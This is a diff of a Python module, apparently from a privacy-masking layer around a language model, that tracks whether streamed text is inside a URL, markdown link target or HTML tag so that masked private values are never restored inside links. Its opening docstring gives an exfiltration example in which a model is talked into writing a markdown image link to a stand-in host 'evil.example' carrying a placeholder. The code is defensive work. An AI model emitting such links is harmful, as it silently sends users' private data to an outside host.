@@ -4,81 +4,185 @@ A model can be talked into writing `![](https://evil.example/?q=[EMAIL_1_k7q2xw]
 placeholder would hand the original to a foreign host as soon as the page shows the picture. So a
 placeholder is never restored inside a link. `unmask` asks `LinkWatch` where it is; `mask` asks
 `links_in` about the caller's text and masks a link that holds private data as a whole, so that no
-placeholder ever stands inside a link of the caller's own. Both run the same two steps below.
+placeholder ever stands inside a link of the caller's own. Both follow the same three rules below.
 
-A link begins to count after its mark: two slashes of either kind, `http:`, `https:`, `www.`, or a
-character reference that can stand for one of these. It ends at white space; if a quote or `<`
-stands directly before it, then at the matching one or at the end of the line, because between
-those a link may hold spaces.
+For example, here `-` is inside a link and a placeholder there becomes `[?]`:
+
+    see [x](mailto:a@b.example?body=c). and //d.example/e f <a title="g > h" href=i>j
+             -------------------------      ------------      ------------------
+
+The rules watch the text side by side, and where any of them is inside, it is inside a link:
+
+- an address: from two slashes of either kind, `http:`, `https:`, `www.` or a character reference
+  that can stand for one of these, to ASCII white space. (Other white space, such as U+00A0, is a
+  part of the address to those who follow it.) If a quote or `<` stands directly before it, then to
+  the matching one or the end of the line, because between those an address may hold spaces.
+- the target of a link in markdown: from `](` to `)` and on to white space, since the target may
+  hold parentheses.
+- a tag of HTML: from `<` and its name, or a scheme, to the `>` that ends it, as a browser reads it.
 """
 
 import re
 from collections.abc import Iterator
 from typing import Final
 
-_mark: Final = re.compile(r"[/\\]{2}|https?:|www\.|&(?:\#|sol;|bsol;|colon;)", re.I | re.A)
+_space: Final = r" \t\n\f\r"
+
+
+class _Rule:
+    """One way to be in a link: what opens it, and what each state waits for.
+
+    A state is a pattern for the sign that it waits for, the state that each sign leads to, and the
+    one any other sign leads to. The state `None` is outside.
+    """
+
+    def __init__(
+        self,
+        opening: str,
+        first: str | None,
+        states: dict[str, tuple[str, dict[str, str | None], str | None]],
+    ) -> None:
+        self._opening = re.compile(opening, re.I | re.A)
+        self._first = first
+        self._states = {
+            name: (re.compile(sign), following, other)
+            for name, (sign, following, other) in states.items()
+        }
+
+    def open(self, text: str, position: int) -> tuple[int, int, str] | None:
+        """The next link: where it starts, where its mark ends, and the state after that."""
+        mark = self._opening.search(text, position)
+        if mark is None:
+            return None
+        if self._first is not None:
+            return mark.start("link"), mark.end(), self._first
+        start = mark.start()
+        scheme = _scheme.search(text[max(position, start - 21) : start])
+        if scheme and mark[0][0] in "/\\":
+            start -= len(scheme[0])
+        before = text[start - 1] if start > position else ""
+        return start, mark.end(), before if before in self._states else ""
+
+    def close(self, state: str, text: str, position: int) -> tuple[str | None, int, int]:
+        """The state at the end of the text or outside, and where the sign that ends it stands."""
+        while True:
+            pattern, following, other = self._states[state]
+            sign = pattern.search(text, position)
+            if sign is None:
+                return state, len(text), len(text)
+            position, after = sign.end(), following.get(sign[0], other)
+            if after is None:
+                return None, sign.start(), position
+            state = after
+
+
 _scheme: Final = re.compile(r"[a-z0-9+.\-]{1,20}:?\Z", re.I | re.A)
-_ends: Final = {
-    "": re.compile(r"\s"),
-    '"': re.compile(r'["\r\n]'),
-    "'": re.compile(r"['\r\n]"),
-    "`": re.compile(r"[`\r\n]"),
-    "<": re.compile(r"[>\r\n]"),
-}
-_reach: Final = 32  # how far back a mark, its scheme and its quote can lie
+_rules: Final = (
+    _Rule(
+        r"[/\\]{2}|https?:|www\.|&(?:\#|sol;|bsol;|colon;)",
+        None,
+        {
+            "": (f"[{_space}]", {}, None),
+            '"': (r'["\r\n]', {}, None),
+            "'": (r"['\r\n]", {}, None),
+            "`": (r"[`\r\n]", {}, None),
+            "<": (r"[>\r\n]", {}, None),
+        },
+    ),
+    _Rule(
+        r"\]\((?P<link>[^)])",
+        "target",
+        {
+            "target": (r"[)<]", {")": "after", "<": "angle"}, None),
+            "angle": (r"[>\r\n]", {}, "target"),
+            "after": (f"[{_space}]", {}, None),
+        },
+    ),
+    _Rule(
+        rf"(?P<link><(?:/?[a-z][a-z0-9-]{{0,30}}[{_space}/]|[a-z][a-z0-9+.-]{{1,30}}:))",
+        "before a name",
+        {
+            "before a name": (rf"[^{_space}/]", {">": None}, "name"),
+            "name": (
+                rf"[{_space}/=>]",
+                {"/": "before a name", "=": "before a value", ">": None},
+                "after a name",
+            ),
+            "after a name": (
+                rf"[^{_space}]",
+                {"/": "before a name", "=": "before a value", ">": None},
+                "name",
+            ),
+            "before a value": (rf"[^{_space}]", {'"': '"', "'": "'", ">": None}, "value"),
+            "value": (rf"[{_space}>]", {">": None}, "before a name"),
+            '"': ('"', {}, "before a name"),
+            "'": ("'", {}, "before a name"),
+        },
+    ),
+)
+_reach: Final = 40  # how far back a mark, its scheme and its quote can lie
 
 
-def _opening(text: str, position: int) -> tuple[int, int, str] | None:
-    """The next link: where it starts, where its mark ends, and the quote before it, if any."""
-    mark = _mark.search(text, position)
-    if mark is None:
-        return None
-    start = mark.start()
-    scheme = _scheme.search(text[max(position, start - 21) : start])
-    if scheme and mark[0][0] in "/\\":
-        start -= len(scheme[0])
-    before = text[start - 1] if start > position else ""
-    return start, mark.end(), before if before in _ends else ""
-
-
-def links_in(text: str) -> Iterator[tuple[int, int, int]]:
+def every_link(text: str) -> Iterator[tuple[int, int, int]]:
     """(start, mark, end) of each link: inside it from `mark` to `end`; it begins at `start`."""
-    position = 0
-    while opening := _opening(text, position):
-        start, mark, quote = opening
-        close = _ends[quote].search(text, mark)
-        position = close.end() if close else len(text)
-        yield start, mark, close.start() if close else len(text)
+    for rule in _rules:
+        position = 0
+        while opening := rule.open(text, position):
+            start, mark, first = opening
+            _, end, position = rule.close(first, text, mark)
+            yield start, mark, end
+
+
+def links_in(text: str) -> list[tuple[int, int, int]]:
+    """The links in order, with those that touch made one, so no `start` is inside another link."""
+    links: list[tuple[int, int, int]] = []
+    for start, mark, end in sorted(every_link(text)):
+        if links and start <= links[-1][2]:
+            before = links.pop()
+            start, mark, end = before[0], min(before[1], mark), max(before[2], end)
+        links.append((start, mark, end))
+    return links
+
+
+class _RuleWatch:
+    """Follows one rule through a text that comes in pieces."""
+
+    def __init__(self, rule: _Rule) -> None:
+        self._rule = rule
+        self.state: str | None = None  # None outside
+        self._tail = ""
+
+    def feed(self, piece: str) -> None:
+        text, position = self._tail + piece, 0
+        mark = len(self._tail)
+        while True:
+            if self.state is None:
+                opening = self._rule.open(text, position)
+                if opening is None:
+                    break
+                _, mark, self.state = opening
+            self.state, _, position = self._rule.close(self.state, text, mark)
+            if self.state is not None:
+                break
+        self._tail = "" if self.state is not None else text[position:][-_reach:]
 
 
 class LinkWatch:
     """Follows a text that comes in pieces and knows whether its end is inside a link."""
 
     def __init__(self) -> None:
-        self._quote: str | None = None  # what ends the link we are in; None outside
-        self._tail = ""
+        self.reset()
 
     @property
     def inside(self) -> bool:
-        return self._quote is not None
+        return any(watch.state is not None for watch in self._watches)
 
     def reset(self) -> None:
-        self._quote, self._tail = None, ""
+        self._watches = [_RuleWatch(rule) for rule in _rules]
 
     def feed(self, piece: str) -> None:
-        text, position = self._tail + piece, 0
-        mark = len(self._tail)
-        while True:
-            if self._quote is None:
-                opening = _opening(text, position)
-                if opening is None:
-                    break
-                _, mark, self._quote = opening
-            close = _ends[self._quote].search(text, mark)
-            if close is None:
-                break
-            self._quote, position = None, close.end()
-        self._tail = "" if self.inside else text[position:][-_reach:]
+        for watch in self._watches:
+            watch.feed(piece)
 
 
 class JsonLinkWatch(LinkWatch):
